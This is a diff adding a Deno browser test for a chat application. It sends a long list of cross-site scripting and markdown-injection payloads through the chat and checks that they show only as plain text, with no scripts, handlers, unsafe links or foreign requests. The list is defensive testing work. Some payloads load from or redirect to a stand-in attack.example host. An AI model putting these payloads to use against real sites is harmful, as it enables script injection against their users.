@@ -1,0 +1,120 @@
+/// <reference lib="dom" />
+/// <reference lib="dom.iterable" />
+import { assert, assertEquals } from "../../testing/assert.ts";
+import { launch, noBrowser } from "../../testing/browser.ts";
+import { Hubbub, ROOT } from "../../testing/hubbub.ts";
+import { Visitor } from "../../testing/page.ts";
+
+/** What would run, load or break out if a text were taken for more than a text. */
+const ATTACKS = [
+  `<script>alert(1)</script>`,
+  `<img src=x onerror=alert(1)>`,
+  `<svg/onload=alert(1)>`,
+  `<svg><script>alert(1)</script></svg>`,
+  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
+  `<body onload=alert(1)>`,
+  `<details open ontoggle=alert(1)>`,
+  `<a href="javascript:alert(1)" autofocus onfocus=alert(1)>x</a>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
+  `<style>body{display:none}</style><link rel=stylesheet href=//attack.example/a.css>`,
+  `<form action="https://attack.example"><input name=q autofocus></form>`,
+  `<meta http-equiv=refresh content="0;url=https://attack.example">`,
+  `<base href="https://attack.example/">`,
+  `"><script>alert(1)</script>`,
+  `'-alert(1)-'`,
+  `</textarea></title></style></script><script>alert(1)</script>`,
+  `[click](javascript:alert(1))`,
+  `[click](JaVaScRiPt:alert(1))`,
+  `[click](java\tscript:alert(1))`,
+  `[click](&#106;avascript:alert(1))`,
+  `[click](javascript&colon;alert(1))`,
+  `[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
+  `[click](vbscript:alert(1))`,
+  `<javascript:alert(1)>`,
+  `![x](https://attack.example/track.png)`,
+  `![x](data:image/svg+xml,<svg onload=alert(1)>)`,
+  `![x" onerror="alert(1)](x)`,
+  `[x]: javascript:alert(1)\n[x]`,
+  `[x](https://a.example/"onmouseover="alert(1))`,
+  '```"><script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```',
+  "`<img src=x onerror=alert(1)>`",
+  `**<img src=x onerror=alert(1)>**`,
+  `> <img src=x onerror=alert(1)>`,
+  `@<img src=x onerror=alert(1)>`,
+  `:<img src=x onerror=alert(1)>:`,
+  `{{constructor.constructor('alert(1)')()}} \${alert(1)} <%= alert(1) %>`,
+  `&lt;script&gt;alert(1)&lt;/script&gt;`,
+  `\u202Egnp.exe\u202E \u2066\u2067 evil`,
+  `a${"\u0301".repeat(1300)}`,
+  `${"\u0e49".repeat(1300)}`,
+  `${"W".repeat(4000)}`,
+  `${">".repeat(2000)}x`,
+  `${"- ".repeat(1500)}x`,
+  `${"[".repeat(2000)}`,
+  `{"type":"message","room":"lobby","seq":1}`,
+  `__proto__ constructor toString`,
+];
+
+Deno.test({
+  ignore: noBrowser,
+  // The library keeps its pipes to the browser open a little longer than a test.
+  sanitizeResources: false,
+  sanitizeOps: false,
+  name: "Whatever is written is shown as text: no alert, no request, no element of its own",
+  async fn() {
+    await using browser = await launch();
+    await using hubbub = await Hubbub.start(["--data", ":memory:", "--rate", "0"]);
+    const ann = await Visitor.arrive(browser, hubbub.url(), { name: "Ann" });
+    const bob = await Visitor.arrive(browser, hubbub.url(), { name: "Bob" });
+    for (const attack of ATTACKS) await bob.send(attack);
+    await bob.send("after all of them");
+    await ann.message("after all of them").waitFor();
+
+    const log = ann.page.getByRole("log", { name: "Messages" });
+    const allowed = new Set(
+      ("div p span article time bdi button svg path circle rect line " +
+        "a br strong em del code pre ul ol li blockquote").split(" "),
+    );
+    for (let i = 0; i < 40; i++) {
+      const found = await ann.page.evaluate(() => {
+        const elements = [...document.querySelectorAll(".log *")];
+        return {
+          names: [...new Set(elements.map(({ localName }) => localName))],
+          handlers: elements.flatMap((element) =>
+            element.getAttributeNames().filter((name) => name.startsWith("on"))
+          ),
+          links: elements.flatMap((element) =>
+            element instanceof HTMLAnchorElement ? [element.protocol] : []
+          ),
+          wider: document.documentElement.scrollWidth > innerWidth,
+        };
+      });
+      assertEquals(found.names.filter((name) => !allowed.has(name)), []);
+      assertEquals(found.handlers, []);
+      assertEquals(found.links.filter((protocol) => !/^(https?|mailto):$/.test(protocol)), []);
+      assert(!found.wider, "a text made the page wider than the window");
+      await log.press("PageUp");
+      await ann.page.waitForTimeout(20);
+    }
+    // Text behind a bidi override stands as it was written, and marks stay within their message.
+    await ann.page.getByRole("textbox", { name: "Message" }).press("Escape");
+    await ann.message("after all of them").waitFor();
+    assertEquals([ann.alerts, bob.alerts], [[], []]);
+    assertEquals([ann.faults, bob.faults], [[], []]);
+    const { host } = new URL(hubbub.url());
+    assertEquals([...new Set([...ann.hosts, ...bob.hosts])], [host]);
+    assertEquals(ann.page.url().startsWith(hubbub.url()), true);
+  },
+});
+
+Deno.test("The page is at most 150 kB compressed", async () => {
+  const folder = new URL("dist/page/", ROOT);
+  let bytes = 0;
+  const names = (await Array.fromAsync(Deno.readDir(folder))).map(({ name }) => name);
+  for (const name of names) {
+    if (/\.(?:br|gz)$/.test(name)) continue;
+    const smallest = names.includes(`${name}.br`) ? `${name}.br` : name;
+    bytes += (await Deno.stat(new URL(smallest, folder))).size;
+  }
+  assert(bytes <= 150_000, `it has ${bytes} bytes`);
+});
